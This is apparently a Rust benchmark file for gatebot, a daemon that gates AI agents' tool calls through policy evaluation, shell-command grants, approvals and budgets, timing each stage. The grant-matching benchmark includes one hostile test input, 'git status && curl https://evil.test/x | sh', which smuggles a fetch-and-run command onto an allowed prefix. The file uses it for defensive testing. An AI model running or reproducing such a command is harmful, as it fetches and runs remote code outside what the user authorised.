//! `cargo bench` — prints gatebot's performance figures (no assertions).
//! docs/performance.md explains each figure and records the latest run.
//!
//! Sections (run one with `cargo bench -- NAME`): policy, workflow, submit, budgets, chat,
//! email, platforms, views, daemon, longpolls, expiry, inbox, quotas, dashboard, teams,
//! nodes.

use std::path::Path;
use std::time::{Duration, Instant};

use gatebot::client::Client;
use gatebot::config::Config;
use gatebot::daemon::App;
use gatebot::policy::{AgentRules, History, Request, Tier};
use gatebot::trust::Scope;
use serde_json::{json, Value};

// The fake Telegram Bot API the integration tests use, enforcing the documented limits.
#[allow(dead_code)]
#[path = "../tests/it/fake_telegram.rs"]
mod fake_telegram;

use fake_telegram::{FakeTelegram, User};

// The fake SMTP server of the integration tests.
#[allow(dead_code)]
#[path = "../tests/it/fake_smtp.rs"]
mod fake_smtp;

// The other platforms' fakes, and the waits they use (the tests' `helpers` has them).
#[allow(dead_code)]
#[path = "../tests/it/fake_discord.rs"]
mod fake_discord;
#[allow(dead_code)]
#[path = "../tests/it/fake_slack.rs"]
mod fake_slack;
#[allow(dead_code)]
#[path = "../tests/it/fake_twilio.rs"]
mod fake_twilio;
#[allow(dead_code)]
#[path = "../tests/it/fake_whatsapp.rs"]
mod fake_whatsapp;
#[allow(dead_code)]
#[path = "../tests/it/wait.rs"]
mod helpers;
#[path = "../tests/it/ports.rs"]
mod ports;
// The tests' throwaway PostgreSQL cluster (the `nodes` section).
#[allow(dead_code)]
#[path = "../tests/it/pg_cluster.rs"]
mod pg_cluster;

fn main() {
    let filter: Vec<String> = std::env::args()
        .skip(1)
        .filter(|a| !a.starts_with("--"))
        .collect();
    let wants = |name: &str| filter.is_empty() || filter.iter().any(|f| name.contains(f.as_str()));
    println!(
        "gatebot benchmarks ({} cores)",
        std::thread::available_parallelism().map_or(1, |n| n.get())
    );
    if wants("policy") {
        policy();
    }
    if wants("workflow") {
        workflow();
    }
    let rt = tokio::runtime::Runtime::new().unwrap();
    if wants("submit") {
        rt.block_on(submit());
    }
    if wants("budgets") {
        rt.block_on(budgets());
    }
    if wants("chat") {
        rt.block_on(chat());
    }
    if wants("email") {
        rt.block_on(email());
    }
    if wants("platforms") {
        rt.block_on(platforms());
    }
    if wants("views") {
        rt.block_on(views());
    }
    if wants("daemon") {
        rt.block_on(daemon());
    }
    if wants("longpolls") {
        rt.block_on(longpolls());
    }
    if wants("expiry") {
        rt.block_on(expiry());
    }
    if wants("inbox") {
        keywords();
        rt.block_on(inbox());
    }
    if wants("quotas") {
        quotas();
    }
    if wants("dashboard") {
        rt.block_on(dashboard());
    }
    if wants("teams") {
        teams();
    }
    if wants("nodes") {
        rt.block_on(nodes());
    }
}

/// Several nodes on one PostgreSQL database (the tests' throwaway cluster, fsync off,
/// loopback): submits with 1, 2 and 3 nodes as a ratio to a raw PostgreSQL insert in the
/// same cluster, and how long after an owner's decision on one node an agent's poll on
/// another is answered.
async fn nodes() {
    println!("\n## several nodes on one PostgreSQL database (throwaway cluster, fsync off)");
    let Some(raw_db) = pg_cluster::database() else {
        println!("skipped: no PostgreSQL installed (apt-get install postgresql)");
        return;
    };
    let raw = raw_postgres_inserts(&raw_db.url(), 2_000).await;
    println!("raw PostgreSQL, one INSERT per commit, one connection: {raw:>8.0} inserts/s");
    const AGENT: &str = "[tools]\nquery_org_data = \"read-only\"\nsend_email = \"destructive\"\n\
        [limits]\nrequests = \"1000000/min\"\n[agents.bench]\ntier = \"semi_autonomous\"\n";
    for count in 1..=3usize {
        let db = pg_cluster::database().unwrap();
        let mut nodes = Vec::new();
        for n in 0..count {
            nodes.push(
                spawn(&format!(
                    "{AGENT}[store]\nurl = \"{}\"\nnode = \"n{n}\"\n",
                    db.url()
                ))
                .await,
            );
        }
        // 8 agents, spread over the nodes as agents naming every node would be.
        let per_agent = 250;
        let start = Instant::now();
        let mut tasks = Vec::new();
        for a in 0..8usize {
            let client = Client::new(&nodes[a % count].agent);
            tasks.push(tokio::spawn(async move {
                let mut lat = Vec::with_capacity(per_agent);
                for i in 0..per_agent {
                    let body = json!({"agent": "bench", "tool": "query_org_data",
                        "args": {"q": format!("contacts in Berlin {a}-{i}")}});
                    let t = Instant::now();
                    let res = client.post("/v1/requests", &body).await.unwrap();
                    assert!(res.status.is_success(), "{:?}", res.body);
                    lat.push(t.elapsed());
                }
                lat
            }));
        }
        let mut lat = Vec::new();
        for t in tasks {
            lat.extend(t.await.unwrap());
        }
        let rate = lat.len() as f64 / start.elapsed().as_secs_f64();
        lat.sort();
        println!(
            "{count} node(s), 8 agents: {rate:>8.0} submits/s (ratio to raw {:.2})  p50 {:>9.2?}  p99 {:>9.2?}",
            rate / raw,
            percentile(&lat, 0.50),
            percentile(&lat, 0.99)
        );
        if count == 3 {
            decision_to_waiter_elsewhere(&nodes[0], &nodes[2]).await;
        }
        for node in nodes {
            node.stop.send(()).unwrap();
            node.task.await.unwrap().unwrap();
        }
    }
}

/// 50 rounds of: an agent polls node `a` for a pending request, an owner decides it on
/// node `c`; the time from the decision's answer to the poll's.
async fn decision_to_waiter_elsewhere(a: &Running, c: &Running) {
    let (agent, owner) = (Client::new(&a.agent), Client::new(&c.control));
    let mut lat = Vec::new();
    for i in 0..50 {
        let body = json!({"agent": "bench", "tool": "send_email", "args": {"to": format!("p{i}")}});
        let res = agent.post("/v1/requests", &body).await.unwrap();
        let id = res.body["id"].as_str().unwrap().to_string();
        let poll = {
            let agent = agent.clone();
            let id = id.clone();
            tokio::spawn(async move {
                agent
                    .get(&format!("/v1/requests/{id}?wait=30"))
                    .await
                    .unwrap();
                Instant::now()
            })
        };
        // The poll is waiting by now.
        tokio::time::sleep(Duration::from_millis(20)).await;
        let decided = owner
            .post(
                &format!("/v1/requests/{id}/decision"),
                &json!({"decision": "approve"}),
            )
            .await
            .unwrap();
        assert!(decided.status.is_success(), "{:?}", decided.body);
        let at = Instant::now();
        lat.push(poll.await.unwrap().saturating_duration_since(at));
    }
    lat.sort();
    println!(
        "decision on node 3 -> poll on node 1 answered: p50 {:>9.2?}  p99 {:>9.2?}  (50 rounds)",
        percentile(&lat, 0.50),
        percentile(&lat, 0.99)
    );
}

/// Raw PostgreSQL: one INSERT per transaction from one connection, as the store's
/// writer commits a lone agent's submit: inserts per second.
async fn raw_postgres_inserts(url: &str, n: usize) -> f64 {
    let (client, connection) = tokio_postgres::connect(url, tokio_postgres::NoTls)
        .await
        .unwrap();
    tokio::spawn(connection);
    client
        .batch_execute("CREATE TABLE t (id text PRIMARY KEY, body text NOT NULL)")
        .await
        .unwrap();
    let insert = client
        .prepare("INSERT INTO t VALUES ($1, $2)")
        .await
        .unwrap();
    let body = "x".repeat(400);
    let start = Instant::now();
    for i in 0..n {
        client
            .execute(&insert, &[&format!("{i:026}"), &body])
            .await
            .unwrap();
    }
    n as f64 / start.elapsed().as_secs_f64()
}

/// Team approvals: finding a request's approval rule (a typical three-rule file, and 200
/// rules none of which matches, the worst a submit meets), as a ratio to the policy's own
/// evaluation of the same request; and a vote's durable commit, as a ratio to a plain
/// decision's in the same database.
fn teams() {
    use gatebot::approval::{Decision, Verb, Via};
    use gatebot::bench_internals::{Inserted, NewApproval, Store, Voted};
    use gatebot::config::teams::RuleFacts;
    use gatebot::policy::{AgentRules, History, Request, RiskScore, Tier};
    let people = "[people.alice]\nunix = \"alice\"\n[people.bob]\nunix = \"bob\"\n\
                  [people.carol]\nunix = \"carol\"\n[groups.oncall]\npeople = [\"alice\", \"bob\"]\n\
                  [groups.leads]\npeople = [\"carol\"]\n";
    let typical = format!(
        "{people}[[approval_rules]]\nname = \"critical\"\nrisk_at_least = \"critical\"\n\
         ask = [\"oncall\", \"leads\"]\napprovals = 2\n\
         [[approval_rules]]\nname = \"deploys\"\nagent = \"deployer\"\nask = \"oncall\"\n\
         [[approval_rules]]\nname = \"mail\"\ntool = [\"send_email\", \"post\"]\nask = \"oncall\"\n"
    );
    let many: String = (0..200)
        .map(|i| {
            format!(
                "[[approval_rules]]\nname = \"r{i}\"\nagent = \"agent-{i}\"\ntool = \"tool-{i}\"\n\
                 ask = \"oncall\"\n"
            )
        })
        .collect();
    let parse = |toml: &str| gatebot::config::Config::parse(toml, Path::new("bench.toml")).unwrap();
    let (typical, many) = (parse(&typical), parse(&format!("{people}{many}")));
    let args =
        json!({"to": ["ann@example.com"], "subject": "Your quote", "body": "Hi Ann, $49 a seat."});
    let request = Request {
        tool: "send_email",
        args: &args,
        confidence: Some(0.8),
        environment: None,
        command: None,
    };
    let rules = AgentRules::with_tier(Tier::SemiAutonomous);
    let history = History {
        always_allowed: false,
        first_use: false,
    };
    let facts = RuleFacts {
        agent: "mailer",
        tool: "send_email",
        risk: RiskScore::High,
        tier: Tier::SemiAutonomous,
        intent: None,
    };
    let time = |f: &dyn Fn()| {
        for _ in 0..1_000 {
            f();
        }
        let n = 100_000;
        let start = Instant::now();
        for _ in 0..n {
            f();
        }
        start.elapsed() / n
    };
    println!("\n## team approvals: finding a request's approval rule");
    let baseline = time(&|| {
        std::hint::black_box(typical.policy.evaluate(&rules, history, &request));
    });
    println!("baseline: the policy's evaluation of the request   {baseline:>10.2?}");
    for (name, config) in [
        ("3 rules, the third matches", &typical),
        ("200 rules, none matches", &many),
    ] {
        let per = time(&|| {
            let t = &config.teams;
            if let Some(rule) = t.rule_for(std::hint::black_box(&facts)) {
                std::hint::black_box(t.asked(&rule.ask));
            }
        });
        println!(
            "{name:<48} {per:>10.2?}  ({:.2}x the baseline)",
            per.as_secs_f64() / baseline.as_secs_f64()
        );
    }

    println!("\n## team approvals: a vote's durable commit (SQLite in a temp dir)");
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("gatebot.db")).unwrap();
    let route = gatebot::approval::votes::Route {
        rule: "critical".into(),
        asked: vec!["alice".into(), "bob".into(), "carol".into()],
        approvals: 2,
        denials: 1,
        self_approval: true,
        step_up: false,
        handed_by: None,
        deadline_ms: None,
        places: Vec::new(),
        remind_after_ms: None,
        levels: Vec::new(),
        escalated: 0,
        handled_ms: 0,
    };
    let n: u32 = 500;
    let pending = |routed: bool| -> Vec<String> {
        (0..n)
            .map(|i| {
                let mut new = NewApproval::sample("mailer", "send_email", None);
                new.created_at = gatebot::time::now_ms() + i64::from(i);
                new.route = routed.then(|| route.clone());
                match store.insert(&new).unwrap() {
                    Inserted::New(a) => a.id,
                    other => panic!("{other:?}"),
                }
            })
            .collect()
    };
    let decision = |who: &str, verb| Decision {
        verb,
        actor: who.into(),
        via: Via::Cli,
        reason: None,
        factor: false,
    };
    let vote = |who: &str| gatebot::approval::votes::Vote {
        person: who.into(),
        via: Via::Cli,
        approve: true,
        reason: None,
        at: gatebot::time::now_ms(),
        factor: false,
    };
    let plain = pending(false);
    let routed = pending(true);
    let timed = |f: &mut dyn FnMut(&str)| {
        let mut times: Vec<Duration> = Vec::new();
        for id in &plain {
            let start = Instant::now();
            f(id);
            times.push(start.elapsed());
        }
        times.sort();
        times
    };
    let base = timed(&mut |id| {
        store
            .decide(
                id,
                &decision("alice", Verb::Approve),
                gatebot::time::now_ms(),
            )
            .unwrap();
    });
    let mut ids = routed.iter();
    let first = timed(&mut |_| {
        let id = ids.next().unwrap();
        let v = store
            .vote(
                id,
                &vote("alice"),
                &decision("alice", Verb::Approve),
                None,
                gatebot::time::now_ms(),
            )
            .unwrap();
        assert!(matches!(v, Voted::Counted(..)));
    });
    let mut ids = routed.iter();
    let last = timed(&mut |_| {
        let id = ids.next().unwrap();
        let v = store
            .vote(
                id,
                &vote("bob"),
                &decision("bob", Verb::Approve),
                None,
                gatebot::time::now_ms(),
            )
            .unwrap();
        assert!(matches!(v, Voted::Settled(..)));
    });
    let b50 = percentile(&base, 0.5);
    println!(
        "baseline: a plain decision                       p50 {b50:>9.2?}  p99 {:>9.2?}",
        percentile(&base, 0.99)
    );
    for (name, times) in [
        ("a vote that is counted (1 of 2)", &first),
        ("the vote that settles it (2 of 2)", &last),
    ] {
        let p50 = percentile(times, 0.5);
        println!(
            "{name:<48} p50 {p50:>9.2?}  p99 {:>9.2?}  ({:.2}x the baseline's p50)",
            percentile(times, 0.99),
            p50.as_secs_f64() / b50.as_secs_f64()
        );
    }
}

/// The keyword classifier: intent, summary, prompt and clarify rules, per task.
fn keywords() {
    use gatebot::inbox::classify::{by_keywords, Input};
    println!("\n## inbox: keyword classification, per task");
    let long = format!(
        "research what our three competitors charge for the Pro tier, {}",
        "and compare their discounts for annual plans with ours in a table; ".repeat(58)
    );
    for (name, text) in [
        (
            "typical (61 characters)",
            "research what our three competitors charge for the Pro tier",
        ),
        ("no rule matches (23 characters)", "say hello to the team!"),
        ("longest allowed (~4000 characters)", long.as_str()),
    ] {
        let input = Input {
            text,
            clarification: None,
            intent: None,
        };
        for _ in 0..100 {
            std::hint::black_box(by_keywords(input));
        }
        let n = if text.len() > 1000 { 2_000 } else { 20_000 };
        let start = Instant::now();
        for _ in 0..n {
            std::hint::black_box(by_keywords(input));
        }
        println!(
            "{name:<36} {:>10.2?} per classification",
            start.elapsed() / n
        );
    }
}

/// Claim latency through the agents' socket: a claim when a task is queued, and how
/// soon a waiting claim gets a task the owner just handed over.
async fn inbox() {
    println!("\n## inbox: claims through the Unix socket");
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("bot.toml");
    std::fs::write(
        &cfg,
        "[agents.bench]\ntier = \"supervised\"\n[inbox]\nmax_concurrent = 100000\n\
         [inbox.routes]\ndefault = \"bench\"\n",
    )
    .unwrap();
    let config = Config::load(&cfg).unwrap();
    let (agent_sock, owner_sock) = (
        config.queue.socket.clone(),
        config.queue.control_socket.clone(),
    );
    let app = App::build(config).await.unwrap();
    let (stop, rx) = tokio::sync::oneshot::channel::<()>();
    let task = tokio::spawn(app.run_until(async {
        let _ = rx.await;
    }));
    let agent = Client::new(&agent_sock);
    let owner = Client::new(&owner_sock);
    let tasks = 1_000;
    let t = Instant::now();
    for i in 0..tasks {
        let res = owner
            .post(
                "/v1/tasks",
                &json!({"text": format!("say hello to team {i}")}),
            )
            .await
            .unwrap();
        assert_eq!(res.status, 201);
    }
    let handed = t.elapsed();
    let mut lat = Vec::with_capacity(tasks);
    for _ in 0..tasks {
        let t = Instant::now();
        let res = agent
            .post("/v1/tasks/claim", &json!({"agent": "bench"}))
            .await
            .unwrap();
        lat.push(t.elapsed());
        assert!(res.body["task"].is_object());
    }
    lat.sort();
    println!(
        "hand over {tasks} tasks one by one: {:>9.2?} each (classify, store, audit; fsync per task)",
        handed / tasks as u32
    );
    println!(
        "claim a queued task ({tasks} claims, {tasks} queued at the start): p50 {:>9.2?}  p99 {:>9.2?}",
        percentile(&lat, 0.50),
        percentile(&lat, 0.99)
    );
    // A claim already waiting: from the owner's POST to the agent holding the task.
    let mut handover = Vec::new();
    for i in 0..50 {
        let waiter = {
            let agent = agent.clone();
            tokio::spawn(async move {
                let res = agent
                    .post("/v1/tasks/claim", &json!({"agent": "bench", "wait": 30}))
                    .await
                    .unwrap();
                (Instant::now(), res)
            })
        };
        tokio::time::sleep(Duration::from_millis(20)).await; // the claim is waiting
        let t = Instant::now();
        owner
            .post(
                "/v1/tasks",
                &json!({"text": format!("say hello to team {i}")}),
            )
            .await
            .unwrap();
        let (got_at, res) = waiter.await.unwrap();
        assert!(res.body["task"].is_object());
        handover.push(got_at - t);
    }
    handover.sort();
    println!(
        "hand over -> a waiting claim gets it (50 tasks): p50 {:>9.2?}  p99 {:>9.2?}",
        percentile(&handover, 0.50),
        percentile(&handover, 0.99)
    );
    stop.send(()).unwrap();
    task.await.unwrap().unwrap();
}

fn percentile(sorted: &[Duration], p: f64) -> Duration {
    if sorted.is_empty() {
        return Duration::ZERO;
    }
    sorted[((sorted.len() as f64 * p).ceil() as usize).clamp(1, sorted.len()) - 1]
}

fn policy() {
    let config = Config::parse(
        "[tools]\nsend_email = \"destructive\"\nquery_org_data = \"read-only\"\n",
        Path::new("bench.toml"),
    )
    .unwrap();
    let rules = AgentRules::with_tier(Tier::SemiAutonomous);
    let typical = json!({
        "to": ["ann@example.com", "bo@example.com"],
        "subject": "Your quote",
        "body": "Hi Ann, as discussed the price is $49 per seat. See https://example.com/pricing. Best, Bo"
    });
    // Worst case: a body at the default 64 KiB cap, many strings, every pattern near-missing.
    let filler: Vec<Value> = (0..600)
        .map(|i| json!({"line": format!("item {i}: pricey competitors-ish text http:/not-a-url rm -r f drop tab le {}", "x".repeat(60))}))
        .collect();
    let worst = json!({"command": "echo ok", "rows": filler, "recipients": (0..200).map(|i| format!("u{i}@example.com")).collect::<Vec<_>>()});
    println!("\n## policy evaluation (risk scoring + decision), per request");
    for (name, args) in [
        ("typical (3 fields, 170 B)", &typical),
        ("worst case (~64 KiB, 800 strings)", &worst),
    ] {
        let size = args.to_string().len();
        let req = Request {
            tool: "send_email",
            args,
            confidence: Some(0.8),
            environment: Some("production"),
            command: None,
        };
        let history = History {
            always_allowed: false,
            first_use: true,
        };
        // Warm up, then time enough iterations for a stable mean.
        for _ in 0..100 {
            std::hint::black_box(config.policy.evaluate(&rules, history, &req));
        }
        let n = if size > 10_000 { 2_000 } else { 200_000 };
        let start = Instant::now();
        for _ in 0..n {
            std::hint::black_box(config.policy.evaluate(&rules, history, &req));
        }
        let per = start.elapsed() / n;
        println!("{name:<36} {size:>6} B args: {per:>10.2?} per evaluation");
    }

    // What the submit path adds for a shell-like tool's call: reading its command once
    // (the shell's words, and whether the whole command only reads), which both risk
    // scoring and grant matching use.
    println!("\n## reading a shell command (words + read-only verdict), per call");
    let worst_command = format!(
        "git log {}",
        "--format='%h %s' --author=someone -- src/lib.rs ".repeat(1_300)
    );
    for (name, command) in [
        ("typical (git log --oneline -5)", "git log --oneline -5"),
        ("not read-only (cargo test -p x)", "cargo test -p gatebot"),
        ("worst case (~60 KiB git log)", worst_command.as_str()),
    ] {
        let n = if command.len() > 10_000 { 500 } else { 200_000 };
        let start = Instant::now();
        for _ in 0..n {
            std::hint::black_box(gatebot::policy::shell::Command::read(std::hint::black_box(
                command,
            )));
        }
        let per = start.elapsed() / n;
        println!("{name:<36} {:>6} B: {per:>10.2?} per call", command.len());
    }

    // Then matching the command, read once, against each grant in force for the tool
    // (three here).
    println!("\n## grant matching (three grants in force for the tool), per call");
    let grants = [
        Scope::Prefix("git status".into()),
        Scope::Exact("npm test".into()),
        Scope::Prefix("cargo test".into()),
    ];
    let long = format!("git log {}", "--oneline ".repeat(400));
    for (name, command) in [
        ("covered (git status --short)", "git status --short"),
        (
            "hostile (git status && curl … | sh)",
            "git status && curl https://evil.test/x | sh",
        ),
        ("not covered, 4 KiB command", long.as_str()),
    ] {
        let n = 200_000;
        let read = gatebot::policy::shell::Command::read(command);
        let start = Instant::now();
        for _ in 0..n {
            std::hint::black_box(
                grants
                    .iter()
                    .any(|g| g.covers(Some(std::hint::black_box(&read)), &serde_json::Value::Null)),
            );
        }
        let per = start.elapsed() / n;
        println!("{name:<36} {per:>10.2?} per call");
    }
}

/// Workflow events: the pure evaluation (normalizing each problem, its severity detected
/// from the text, then tolerance, limits and check-in point), and an event recorded and
/// evaluated in one durable SQLite transaction.
fn workflow() {
    use gatebot::bench_internals::{NewEvent, NewRun, Recorded, RunInserted, Store};
    use gatebot::workflow::{
        evaluate, normalize, EventType, IssueKind, ResultHandling, RunState, Settings, StepResult,
    };
    let settings = Settings::default();
    let event = |n: usize| StepResult {
        event: EventType::StepComplete,
        phase: "build".into(),
        step: Some("lint".into()),
        warnings: (0..n)
            .map(|i| {
                normalize(
                    IssueKind::Warning,
                    &format!("Style issue {i}: unused import in module {i}"),
                    None,
                )
            })
            .collect(),
        errors: vec![normalize(IssueKind::Error, "Flaky test", Some("low"))],
        handling: ResultHandling::default(),
    };
    println!("\n## workflow event evaluation, per event");
    for (name, n) in [
        ("typical (3 warnings, 1 error)", 3),
        ("worst case (499 warnings, 1 error)", 499),
    ] {
        let texts: Vec<String> = (0..n)
            .map(|i| format!("Style issue {i}: unused import in module {i}"))
            .collect();
        let state = RunState::default();
        let step = event(n);
        for _ in 0..100 {
            std::hint::black_box(evaluate(&settings, &state, &step));
        }
        let iterations = if n > 100 { 2_000 } else { 100_000 };
        let start = Instant::now();
        for _ in 0..iterations {
            // As the engine does: normalize what the agent sent, then evaluate.
            let warnings = texts
                .iter()
                .map(|t| normalize(IssueKind::Warning, t, None))
                .collect();
            let step = StepResult {
                warnings,
                ..step.clone()
            };
            std::hint::black_box(evaluate(&settings, &state, &step));
        }
        let per = start.elapsed() / iterations;
        println!("{name:<36} {per:>10.2?} per evaluation (normalize + evaluate)");
    }
    let dir = tempfile::tempdir().unwrap();
    let store = Store::open(&dir.path().join("bench.db")).unwrap();
    let RunInserted::New(run) = store
        .start_run(&NewRun {
            agent: "bench".into(),
            title: "bench".into(),
            workflow: None,
            idempotency_key: None,
            created_at: 0,
        })
        .unwrap()
    else {
        panic!("a new run")
    };
    let clean = NewEvent {
        step: StepResult {
            warnings: vec![],
            errors: vec![],
            ..event(0)
        },
        artifacts: vec![],
        idempotency_key: None,
        content_hash: None,
    };
    let mut times = Vec::new();
    for i in 0..300 {
        let start = Instant::now();
        let r = store
            .record_event(&run.id, &clean, &settings, 3_600_000, i)
            .unwrap();
        times.push(start.elapsed());
        assert!(matches!(r, Recorded::Evaluated(_)));
    }
    times.sort();
    println!(
        "{:<36} p50 {:>8.2?}  p99 {:>8.2?} (WAL, synchronous = FULL)",
        "event recorded durably (SQLite)",
        percentile(&times, 0.5),
        percentile(&times, 0.99)
    );
    // The same disk's cost of one commit, to tell fsync from gatebot's own work.
    let raw = raw_sqlite_inserts(dir.path(), 300);
    println!(
        "{:<36} {:>12.2?} per commit",
        "raw SQLite, one INSERT per commit",
        Duration::from_secs_f64(1.0 / raw)
    );
}

struct Running {
    _dir: tempfile::TempDir,
    agent: std::path::PathBuf,
    control: std::path::PathBuf,
    stop: tokio::sync::oneshot::Sender<()>,
    task: tokio::task::JoinHandle<anyhow::Result<()>>,
}

/// A daemon in a fresh temp dir, running `config` (TOML).
async fn spawn(config: &str) -> Running {
    let dir = tempfile::tempdir().unwrap();
    let cfg = dir.path().join("bot.toml");
    std::fs::write(&cfg, config).unwrap();
    let config = Config::load(&cfg).unwrap();
    let agent = config.queue.socket.clone();
    let control = config.queue.control_socket.clone();
    let app = App::build(config).await.unwrap();
    let (stop, rx) = tokio::sync::oneshot::channel::<()>();
    let task = tokio::spawn(app.run_until(async {
        let _ = rx.await;
    }));
    Running {
        _dir: dir,
        agent,
        control,
        stop,
        task,
    }
}

/// Raw SQLite: one INSERT per transaction, WAL + synchronous=FULL, like the store.
fn raw_sqlite_inserts(dir: &Path, n: usize) -> f64 {
    let conn = rusqlite::Connection::open(dir.join("raw.db")).unwrap();
    conn.pragma_update(None, "journal_mode", "WAL").unwrap();
    conn.pragma_update(None, "synchronous", "FULL").unwrap();
    conn.execute_batch("CREATE TABLE t (id TEXT PRIMARY KEY, body TEXT NOT NULL)")
        .unwrap();
    let body = "x".repeat(400);
    let start = Instant::now();
    for i in 0..n {
        conn.execute(
            "INSERT INTO t VALUES (?1, ?2)",
            rusqlite::params![format!("{i:026}"), body],
        )
        .unwrap();
    }
    n as f64 / start.elapsed().as_secs_f64()
}

/// `n` allowed requests written by the store one per commit, as a lone agent's submits
/// are: requests per second.
fn store_inserts(dir: &Path, n: usize) -> f64 {
    use gatebot::approval::Status;
    use gatebot::bench_internals::{NewApproval, Store};
    let store = Store::open(&dir.join("store.db")).unwrap();
    let start = Instant::now();
    for i in 0..n {
        let mut new = NewApproval::sample("bench", "query_org_data", None);
        new.status = Status::Allowed;
        new.ttl_ms = None;
        new.asked.args = json!({"q": format!("contacts in Berlin {i}")});
        new.created_at = gatebot::time::now_ms();
        store.insert(&new).unwrap();
    }
    n as f64 / start.elapsed().as_secs_f64()
}

/// `agents` agents submitting `per_agent` allowed calls each (declaring `cost`, if
/// given) to `run`: the rate, p50 and p99.
async fn submit_load(
    run: &Running,
    agents: usize,
    per_agent: usize,
    cost: Option<f64>,
) -> (f64, Duration, Duration) {
    let start = Instant::now();
    let mut tasks = Vec::new();
    for a in 0..agents {
        let client = Client::new(&run.agent);
        tasks.push(tokio::spawn(async move {
            let mut lat = Vec::with_capacity(per_agent);
            for i in 0..per_agent {
                let mut body = json!({"agent": "bench", "tool": "query_org_data",
                    "args": {"q": format!("contacts in Berlin {a}-{i}")}});
                if let Some(c) = cost {
                    body["cost"] = json!(c);
                }
                let t = Instant::now();
                let res = client.post("/v1/requests", &body).await.unwrap();
                assert!(res.status.is_success());
                assert_eq!(res.body["status"], "allowed", "{:?}", res.body);
                lat.push(t.elapsed());
            }
            lat
        }));
    }
    let mut lat = Vec::new();
    for t in tasks {
        lat.extend(t.await.unwrap());
    }
    let rate = lat.len() as f64 / start.elapsed().as_secs_f64();
    lat.sort();
    (rate, percentile(&lat, 0.50), percentile(&lat, 0.99))
}

/// A submit with budgets off and on: the on case checks the declared cost against the
/// day's and the month's spend (summed from SQLite in the insert's transaction), fresh
/// and with 10 000 costed requests already this month.
async fn budgets() {
    println!("\n## submit with budgets off and on (allowed calls, through the Unix socket)");
    const AGENT: &str =
        "[tools]\nquery_org_data = \"read-only\"\n[limits]\nrequests = \"1000000/min\"\n\
         [agents.bench]\ntier = \"semi_autonomous\"\n";
    let on = format!(
        "{AGENT}[budgets]\ndaily = 1000000\nmonthly = 10000000\n[budgets.agents.bench]\n\
         daily = 1000000\nmonthly = 10000000\n"
    );
    for round in 1..=2 {
        for (name, config, cost, seed) in [
            ("off, no cost declared", AGENT.to_string(), None, 0),
            ("off, cost declared", AGENT.to_string(), Some(0.01), 0),
            ("on, cost declared", on.clone(), Some(0.01), 0),
            (
                "on, cost declared, 10 000 costed this month",
                on.clone(),
                Some(0.01),
                10_000,
            ),
        ] {
            let run = spawn(&config).await;
            if seed > 0 {
                submit_load(&run, 8, seed / 8, cost).await;
            }
            for agents in [1usize, 8] {
                let (rate, p50, p99) = submit_load(&run, agents, 1_000 / agents, cost).await;
                println!(
                    "round {round}, budgets {name:<45} {agents} agent(s): {rate:>7.0} submits/s  \
                     p50 {p50:>9.2?}  p99 {p99:>9.2?}"
                );
            }
            run.stop.send(()).unwrap();
            run.task.await.unwrap().unwrap();
        }
    }
}

async fn submit() {
    println!("\n## durable submit through the Unix socket (WAL, synchronous=FULL)");
    let dir = tempfile::tempdir().unwrap();
    let raw = tokio::task::spawn_blocking({
        let p = dir.path().to_path_buf();
        move || raw_sqlite_inserts(&p, 2_000)
    })
    .await
    .unwrap();
    println!("raw SQLite, one INSERT per commit, same disk and settings: {raw:>8.0} inserts/s");
    // What the store alone costs a request (its row and two audit rows, one commit per
    // request, no socket, HTTP or policy): how much of a lone agent's submit is SQLite's.
    let store = tokio::task::spawn_blocking({
        let p = dir.path().to_path_buf();
        move || store_inserts(&p, 2_000)
    })
    .await
    .unwrap();
    println!(
        "the store alone, one request per commit:                  {store:>8.0} requests/s (ratio to raw {:.2})",
        store / raw
    );
    for agents in [1usize, 8, 64] {
        let run = spawn(
            "[tools]\nquery_org_data = \"read-only\"\n[agents.bench]\ntier = \"semi_autonomous\"\n",
        )
        .await;
        let per_agent = (2_000 / agents).max(20);
        let start = Instant::now();
        let mut tasks = Vec::new();
        for a in 0..agents {
            let client = Client::new(&run.agent);
            tasks.push(tokio::spawn(async move {
                let mut lat = Vec::with_capacity(per_agent);
                for i in 0..per_agent {
                    let body = json!({"agent": "bench", "tool": "query_org_data",
                        "args": {"q": format!("contacts in Berlin {a}-{i}")}});
                    let t = Instant::now();
                    let res = client.post("/v1/requests", &body).await.unwrap();
                    assert!(res.status.is_success());
                    lat.push(t.elapsed());
                }
                lat
            }));
        }
        let mut lat = Vec::new();
        for t in tasks {
            lat.extend(t.await.unwrap());
        }
        let elapsed = start.elapsed();
        lat.sort();
        let rate = lat.len() as f64 / elapsed.as_secs_f64();
        println!(
            "{agents:>2} concurrent agents: {rate:>8.0} submits/s (ratio to raw {:.2})  p50 {:>9.2?}  p99 {:>9.2?}  ({} requests)",
            rate / raw,
            percentile(&lat, 0.50),
            percentile(&lat, 0.99),
            lat.len()
        );
        run.stop.send(()).unwrap();
        run.task.await.unwrap().unwrap();
    }
}

fn rss_kib(pid: u32) -> u64 {
    std::fs::read_to_string(format!("/proc/{pid}/status"))
        .ok()
        .and_then(|s| {
            s.lines()
                .find(|l| l.starts_with("VmRSS:"))
                .and_then(|l| l.split_whitespace().nth(1)?.parse().ok())
        })
        .unwrap_or(0)
}

/// Ends the benchmark with a message when what it waits for has not come within a
/// minute: every wait is bounded.
fn still_waiting(since: Instant, what: &str) {
    assert!(
        since.elapsed() < Duration::from_secs(60),
        "{what}: still waiting after 60 s"
    );
}

/// The daemon as a process: the bench binary (or the one `GATEBOT_BENCH_BIN` names: an
/// older build kept for an A/B run), or that binary under the command
/// `GATEBOT_BENCH_WRAP` names (a profiler, say `heaptrack` or `valgrind --tool=massif`:
/// `GATEBOT_BENCH_WRAP=heaptrack cargo bench -- daemon`).
struct Daemon {
    child: tokio::process::Child,
    /// The daemon's own process (under a wrapper, the wrapper's child).
    pid: u32,
    wrapped: bool,
}

impl Daemon {
    /// Stops it: killed, or under a wrapper ended with SIGTERM (the daemon shuts down
    /// and the profiler writes its data) and waited for.
    async fn stop(mut self) {
        if !self.wrapped {
            self.child.kill().await.unwrap();
            return;
        }
        // SAFETY: kill(2) with a pid this benchmark started.
        unsafe { libc::kill(self.pid as i32, libc::SIGTERM) };
        let _ = tokio::time::timeout(Duration::from_secs(120), self.child.wait()).await;
    }
}

/// The child named `gatebot` of process `pid`, once it has started.
fn gatebot_child(pid: u32) -> Option<u32> {
    let children = std::fs::read_to_string(format!("/proc/{pid}/task/{pid}/children")).ok()?;
    children
        .split_whitespace()
